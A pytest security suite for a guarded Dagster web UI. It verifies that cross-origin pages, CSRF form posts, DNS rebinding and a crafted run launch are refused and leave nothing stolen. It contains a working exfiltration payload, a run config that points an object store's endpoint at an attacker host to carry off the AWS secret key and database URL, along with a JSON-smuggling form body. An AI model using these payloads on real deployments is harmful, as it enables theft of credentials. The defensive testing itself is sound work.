"""The real `glad up` in a real browser: attacked by every way a web page has, and used by its owner through the guard."""

import base64
import json
import re
import subprocess
import sys
import threading
import urllib.error
import urllib.parse
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from dagster_graphql import DagsterGraphQLClient

from glad_pipeline_tests.acceptance.conftest import soon
from glad_pipeline_tests.up.conftest import PASSWORD, logged_in, switch_the_sensor
from glad_pipeline_tests.up.tls_proxy import TlsProxy

LAUNCH = """mutation($p: ExecutionParams!) { launchRun(executionParams: $p) {
  __typename ... on LaunchRunSuccess { run { runId } } ... on RunConfigValidationInvalid { errors { message } }
  ... on PythonError { message } } }"""
SUBSCRIPTION = "subscription { locationStateChangeEvents { event { eventType } } }"


@pytest.fixture(scope="module", autouse=True)
def _only_tests_change_anything(quiet):
    pass


@pytest.fixture(scope="module")
def token(machine, web):
    return (machine.home / "web-token").read_text()


class Evil(ThreadingHTTPServer):
    """Somebody else's site. It serves the attacking page, and remembers whatever else it is sent."""

    def __init__(self):
        self.sent = []
        site = self
        page = Path(__file__).with_name("evil.html").read_bytes()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path.partition("?")[0] not in ("/", "/favicon.ico"):
                    site.sent.append((self.path, str(self.headers)))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page)

            do_PUT = do_POST = do_HEAD = do_DELETE = do_GET

            def log_message(self, *_):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def page(self, host, web):
        """The address of the attacking page under that name of the site."""
        told = {"target": str(web), "mutation": LAUNCH, "params": {"p": self.params()}, "subscription": SUBSCRIPTION}
        return f"http://{host}:{self.server_port}/#{urllib.parse.quote(json.dumps(told))}"

    def params(self):
        """The launch that carried off the store's secret and the database's password, word for word."""
        store = {
            "endpoint_url": f"http://127.0.0.1:{self.server_port}",
            "bucket": {"env": "AWS_SECRET_ACCESS_KEY"},
            "session_token": {"env": "DATABASE_URL"},
        }
        return launch("audit_store", {"resources": {"object_store": {"config": store}}})


@pytest.fixture(scope="module")
def evil():
    with Evil() as site:
        yield site
        site.shutdown()


def launch(job, config):
    selector = {"repositoryLocationName": "glad_pipeline", "repositoryName": "__repository__", "jobName": job}
    return {"selector": selector, "runConfigData": config, "mode": "default"}


def asked(url, *, token=None, query=None, variables=None, **headers):
    """Status and text of an answer to a program; a POST of GraphQL if there is a query."""
    body = json.dumps({"query": query, "variables": variables}).encode() if query else None
    request = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"} if body else {})
    for name, value in {**({"Authorization": f"Bearer {token}"} if token else {}), **headers}.items():
        request.add_header(name.replace("_", "-"), value)
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as refusal:
        return refusal.code, refusal.read().decode()


def state(machine):
    """Everything that a visitor could have changed: runs, what they told, and which triggers are switched on."""
    return {
        table: machine.sql(f"SELECT {columns} FROM {table} ORDER BY 1", database="DAGSTER_DATABASE_URL")
        for table, columns in {
            "runs": "run_id, status",
            "event_logs": "id",
            "asset_keys": "asset_key",
            "jobs": "job_origin_id, status",
            "bulk_actions": "key",
        }.items()
    }


def secrets(machine):
    database = urllib.parse.urlsplit(machine.exports["DATABASE_URL"])
    query = urllib.parse.parse_qs(database.query)
    password = database.password or query["password"][0]
    return {machine.exports["AWS_SECRET_ACCESS_KEY"], urllib.parse.unquote(password)}


def written(machine):
    """Names of the files below the state directory that hold a secret, and of Dagster's tables; our own of them not."""
    sought = [secret.encode() for secret in secrets(machine)]
    ours = (".env", "secrets.json", "s3.json")
    files = [path for path in machine.home.rglob("*") if path.is_file() and path.name not in ours]
    found = {str(path.relative_to(machine.home)) for path in files if any(s in path.read_bytes() for s in sought)}
    for (table,) in ({"runs"}, {"event_logs"}, {"run_tags"}, {"job_ticks"}):
        rows = str(machine.sql(f"SELECT * FROM {table}", database="DAGSTER_DATABASE_URL")).encode()
        found |= {table} if any(s in rows for s in sought) else set()
    return {name for name in found if not name.startswith(("postgres", "s3/"))}


@pytest.fixture(scope="module")
def run(machine, web, token):
    """A run that its owner has launched, for others to read: its id."""
    status, told = asked(f"{web}/graphql", token=token, query=LAUNCH, variables={"p": launch("deliver_messages", {})})
    assert status == 200, told
    run_id = json.loads(told)["data"]["launchRun"]["run"]["runId"]

    def ended():
        (row,) = machine.sql("SELECT status FROM runs WHERE run_id = %s", run_id, database="DAGSTER_DATABASE_URL")
        return row["status"] in ("SUCCESS", "FAILURE") and row["status"]

    assert soon(ended, seconds=90) == "SUCCESS"
    return run_id


SITES = ["evil.example", "127.0.0.1", "localhost"]  # another site; and, with the session's cookie, other programs here


@pytest.mark.few(2)
@pytest.mark.parametrize("host", SITES)
def test_no_page_of_another_origin_changes_reads_or_starts_anything(machine, web, evil, run, page, host):
    before = state(machine)
    sockets = []
    page.on("websocket", lambda made: made.on("framereceived", lambda data: sockets.append(str(data))))
    page.goto(evil.page(host, web))
    page.wait_for_function("document.title === 'done'", timeout=90_000)
    told = page.evaluate("told()")
    assert len(told["tried"]) == 23
    assert told["stolen"] == []
    assert sockets == []
    shown = [frame.url for frame in page.frames if frame.url.startswith(web)]
    assert shown == []  # what a frame was refused is an error page of the browser's own
    for address in ("/graphql?query=" + urllib.parse.quote(LAUNCH), "/graphql", "/"):  # the whole window
        page.goto(evil.page(host, web))
        page.evaluate(
            "([to, body]) => { const f = document.createElement('form'); f.method = body ? 'post' : 'get'; f.action = to;"
            " f.enctype = 'text/plain'; const i = document.createElement('input'); i.name = body || 'query';"
            " i.value = body ? '\"}' : told.toString(); f.append(i); document.body.append(f); f.submit() }",
            [f"{web}{address}", json.dumps({"query": LAUNCH, "variables": {"p": evil.params()}})[:-1] + ',"x":"'],
        )
        page.get_by_text(re.compile("may not call")).wait_for()
    link = f"{web}/graphql?" + urllib.parse.urlencode({"query": LAUNCH, "variables": json.dumps({"p": evil.params()})})
    page.goto(evil.page(host, web))
    page.evaluate("to => { location = to }", link)
    page.wait_for_url(f"{web}/graphql**")  # the page for trying, as a link may show it: it runs nothing
    page.wait_for_timeout(1_000)
    assert state(machine) == before
    assert evil.sent == []


def test_another_name_that_leads_here_is_answered_nothing(machine, web, run, browser):
    """DNS rebinding: the browser believes the page to be of `rebound.example`, and this machine to be that."""
    page = browser.new_page()
    refused = page.goto(str(web).replace("127.0.0.1", "rebound.example"))
    assert refused.status == 403
    for request in ("{method: 'GET'}", "{method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'}"):
        status, text = page.evaluate(f"fetch('/graphql', {request}).then(async a => [a.status, await a.text()])")
        assert status == 403
        assert run not in text
    page.close()


def test_the_launch_that_carried_off_secrets_is_refused_to_everybody_and_nothing_is_written(machine, web, token, evil):
    before = state(machine)
    variables = {"p": evil.params()}
    by_get = f"{web}/graphql?" + urllib.parse.urlencode({"query": LAUNCH, "variables": json.dumps(variables)})
    assert asked(by_get)[0] == 401
    assert asked(by_get, token=token)[0] == 405
    assert asked(f"{web}/graphql", query=LAUNCH, variables=variables)[0] == 401
    status, told = asked(
        f"{web}/graphql", token=token, query=LAUNCH, variables=variables
    )  # its owner, or who fooled them
    assert (status, json.loads(told)["data"]["launchRun"]["__typename"]) == (200, "RunConfigValidationInvalid")
    assert not [secret for secret in secrets(machine) if secret in told]
    assert state(machine) == before
    assert evil.sent == []
    assert written(machine) == set()


def test_programs_get_in_with_the_token_and_dagster_s_own_among_them(machine, web, token, run):
    for path in ("/", "/server_info", "/graphql", f"/download_debug/{run}", "/logs/x.out"):
        assert asked(web + path)[0] == 401
        assert asked(web + path, token=token + "x")[0] == 401
    assert asked(f"{web}/server_info", token=token)[0] == 200
    host, _, port = web.removeprefix("http://").partition(":")
    client = DagsterGraphQLClient(host, int(port), headers={"Authorization": f"Bearer {token}"})
    assert client.get_run_status(run).value == "SUCCESS"
    remote = str(web).replace("http://", f"http://:{token}@")
    words = [Path(sys.executable).with_name("dagster-graphql"), "-r", remote, "-t", "{version}"]
    done = subprocess.run(words, capture_output=True, text=True, check=False, cwd=machine.home)
    assert "'version'" in done.stdout, done.stderr
    basic = base64.b64encode(f":{token}".encode()).decode()
    assert asked(f"{web}/server_info", Authorization=f"Basic {basic}")[0] == 200


def test_a_wrong_password_is_told_and_the_token_still_opens(web, token, browser):
    page = browser.new_page()
    page.goto(f"{web}/assets")
    page.get_by_label("Password").fill("a guess of mine")
    page.get_by_role("button", name="Log in").click()
    page.get_by_text("That is not the password.").wait_for()
    page.goto(f"{web}/guard/login?token={token}")
    page.get_by_text("Deployment", exact=True).wait_for()
    assert token not in page.url
    page.close()


def test_a_link_on_another_site_leads_whoever_is_logged_in_to_the_page(web, evil, run, page):
    page.goto(evil.page("evil.example", web))
    page.evaluate("to => { location = to }", f"{web}/runs/{run}")
    page.get_by_text(run[:8]).first.wait_for()


def test_code_is_reloaded_and_a_sensor_switched_on_and_off_in_the_web_ui(machine, web, page):
    page.goto(f"{web}/locations")
    with page.expect_response(
        lambda answer: "ReloadRepositoryLocation" in (answer.request.post_data or "")
    ) as reloaded:
        page.get_by_text("Reload", exact=True).click()
    assert reloaded.value.status == 200
    for on in (True, False):
        switch_the_sensor(machine, web, page, on=on)


def test_behind_a_proxy_with_tls_the_launchpad_starts_a_run_whose_log_comes_while_it_goes_on(web, tmp_path, browser):
    with TlsProxy(int(web.rpartition(":")[2]), tmp_path) as proxy:
        context = browser.new_context(ignore_https_errors=True)
        page = context.new_page()
        frames = []
        page.on("websocket", lambda made: made.on("framereceived", lambda data: frames.append((made.url, str(data)))))
        outside = f"https://glad.example:{proxy.port}"
        page.goto(f"{outside}/locations/glad_pipeline/jobs/deliver_messages/playground")
        logged_in(page)
        [cookie] = [cookie for cookie in context.cookies() if "glad-session" in cookie["name"]]
        assert cookie["name"].startswith("__Host-")
        assert (cookie["secure"], cookie["httpOnly"], cookie["sameSite"]) == (True, True, "Strict")
        page.get_by_role("button", name="Launch Run").click()
        page.wait_for_url("**/runs/*")
        page.get_by_text("RUN_SUCCESS").first.wait_for(timeout=90_000)  # without a reload
        assert {url.partition(":")[0] for url, _ in frames} == {"wss"}
        assert any("RunSuccessEvent" in data or "RUN_SUCCESS" in data for _, data in frames)
        assert page.goto(outside.replace("glad.example", "other.example")).status == 403
        context.close()


def test_no_log_has_the_token_the_password_or_a_session(machine, web, token, owner):
    sessions = [cookie["value"] for cookie in owner.cookies() if "glad-session" in cookie["name"]]
    assert sessions
    logs = {path.name: path.read_text(errors="replace") for path in machine.home.joinpath("logs").rglob("*.log")}
    assert "web-ui.log" in logs
    assert [name for name, text in logs.items() for secret in (token, PASSWORD, *sessions) if secret in text] == []
